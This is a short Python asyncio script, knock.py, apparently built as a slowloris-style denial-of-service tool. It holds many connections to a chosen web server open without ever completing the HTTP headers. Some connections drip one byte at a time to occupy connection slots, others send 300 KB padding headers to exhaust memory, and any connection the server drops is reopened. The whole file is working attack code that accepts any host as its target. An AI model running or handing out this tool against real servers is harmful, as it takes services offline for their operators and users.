"""Holds COUNT connections to a web server open, none of which ever finishes its headers: knock.py HOST PORT COUNT

Half of them send little and wait, which takes places; the others send a header of hundreds of kilobytes, which takes memory.
Prints a line once each has been connected; those that the server closes are opened again.
"""

import asyncio
import sys

LENGTHS = 100, 300_000  # of the header, in bytes
REST = 0.2  # seconds


async def knock(host, port, length, connected):
    while True:
        try:
            _, writer = await asyncio.open_connection(host, port)
            connected()
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX-Padding: " + b"x" * length)
            while not writer.is_closing():
                await writer.drain()
                await asyncio.sleep(REST)
                writer.write(b"x")
        except OSError:
            await asyncio.sleep(REST)


async def main(host, port, count):
    missing = set(range(count))

    def connected(number):
        if missing:
            missing.discard(number)
            if not missing:
                print("knocking", flush=True)

    await asyncio.gather(
        *(knock(host, port, LENGTHS[number % 2], lambda number=number: connected(number)) for number in range(count))
    )


asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
